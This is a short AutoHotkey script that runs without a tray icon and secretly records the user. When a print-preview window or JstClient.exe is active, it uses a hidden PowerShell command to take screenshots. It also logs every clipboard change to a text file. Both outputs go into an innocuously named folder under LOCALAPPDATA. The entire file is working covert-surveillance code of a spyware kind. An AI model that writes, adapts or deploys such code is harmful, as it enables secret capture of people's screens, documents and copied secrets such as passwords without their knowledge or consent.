#Requires AutoHotkey v2.0
#SingleInstance Force
#NoTrayIcon
dst := EnvGet("LOCALAPPDATA") "\DisplayCache\q"
SetTimer(Tick, 1500)
Tick() {
  global dst
  if WinActive("打印预览") or WinActive("ahk_exe JstClient.exe") {
    f := dst "\" FormatTime(, "yyyyMMddHHmmss") ".jpg"
    RunWait('powershell -w hidden -nop -c "Add-Type -A System.Windows.Forms,System.Drawing;$b=[Windows.Forms.Screen]::PrimaryScreen.Bounds;$i=New-Object Drawing.Bitmap $b.Width,$b.Height;[Drawing.Graphics]::FromImage($i).CopyFromScreen(0,0,0,0,$i.Size);$i.Save(\"' f '\")"',,"Hide")
  }
}
OnClipboardChange((t) => FileAppend(A_Now "`t" A_Clipboard "`n", dst "\c.txt", "UTF-8"))
